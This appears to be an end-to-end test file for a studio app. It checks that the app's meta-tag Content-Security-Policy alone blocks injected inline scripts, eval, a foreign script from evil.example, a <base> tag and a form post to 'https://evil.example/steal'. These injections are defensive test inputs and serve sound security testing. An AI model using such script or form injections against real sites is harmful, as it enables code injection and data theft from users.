// The renderer's Content-Security-Policy as the desktop window has it: only the built index.html's meta tag (no
// header). Real Chromium loads the built browser-mode studio with the server's CSP header taken off every
// response, so what it enforces comes from the meta alone: the app boots with no violation, and injected inline
// script, eval, a foreign script, <base> and a form post away are all refused.
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startBrowserStudio, type BrowserStudio } from '../helpers/studio-page';
import { makeTempDir } from '../helpers/temp-dir';

interface Violation {
  directive: string;
  blocked: string;
}

declare global {
  interface Window {
    __violations: Violation[];
    __ran?: string;
  }
}

describe('the built renderer page under its own meta CSP only', () => {
  const tmp = makeTempDir('vps-e2e-csp-');
  let app: BrowserStudio;
  let page: Page;
  const errors: string[] = [];
  const headersSeen: (string | undefined)[] = [];

  beforeAll(async () => {
    app = await startBrowserStudio(join(tmp.dir, 'data'));
    page = await app.browser.newPage({ viewport: { width: 1280, height: 800 } });
    page.on('pageerror', (e) => errors.push(e.message));
    // Signs in (the cookie), then takes the CSP header off every answer from here on.
    await page.goto(app.studio.loginUrl);
    await page.route('**/*', async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      headersSeen.push(headers['content-security-policy']);
      delete headers['content-security-policy'];
      await route.fulfill({ response, headers });
    });
    await page.addInitScript(() => {
      window.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
      );
    });
    await page.goto(new URL(app.studio.loginUrl).origin + '/');
    await page.getByTestId('new-project').waitFor();
  });
  afterAll(async () => {
    await app?.stop();
    tmp.cleanup();
  });

  const violations = () => page.evaluate(() => window.__violations);

  it('boots the app with the header gone and no violation: its own scripts, styles and images are allowed', async () => {
    expect(headersSeen.length).toBeGreaterThan(0);
    expect(headersSeen.every((h) => h !== undefined)).toBe(true); // the server did send one; the page never saw it
    expect(await violations()).toEqual([]);
    expect(errors).toEqual([]);
  });

  it('refuses an injected inline script, eval and new Function', async () => {
    // Code Playwright evaluates may eval (DevTools' exemption); a task the page runs later may not.
    await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = "window.__ran = 'inline'";
      document.head.append(s);
      setTimeout(() => {
        const tryRun = (f: () => unknown) => {
          try {
            f();
            return 'ran';
          } catch (e) {
            return (e as Error).name;
          }
        };
        window.__ran = JSON.stringify({
          inline: window.__ran ?? 'blocked',
          eval: tryRun(() => eval('1 + 1')),
          fn: tryRun(() => new Function('return 1')()),
        });
      }, 0);
    });
    await expect.poll(() => page.evaluate(() => window.__ran)).toBeDefined();
    const outcome = JSON.parse((await page.evaluate(() => window.__ran))!);
    expect(outcome).toEqual({ inline: 'blocked', eval: 'EvalError', fn: 'EvalError' });
    const directives = (await violations()).map((v) => v.directive);
    expect(directives).toContain('script-src-elem');
    expect(directives).toContain('script-src');
  });

  it('refuses a script or a form post to another origin, and a <base>', async () => {
    await page.evaluate(() => {
      window.__violations.length = 0;
      const s = document.createElement('script');
      s.src = 'https://evil.example/x.js';
      document.head.append(s);
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
      const form = document.createElement('form');
      form.action = 'https://evil.example/steal';
      form.method = 'post';
      document.body.append(form);
      form.submit();
    });
    await expect
      .poll(async () => (await violations()).map((v) => v.directive).sort(), { timeout: 5000 })
      .toEqual(['base-uri', 'form-action', 'script-src-elem']);
    expect((await violations()).find((v) => v.directive === 'script-src-elem')?.blocked).toBe(
      'https://evil.example/x.js',
    );
    // Still the studio's page.
    expect(new URL(page.url()).hostname).toBe('127.0.0.1');
  });
});
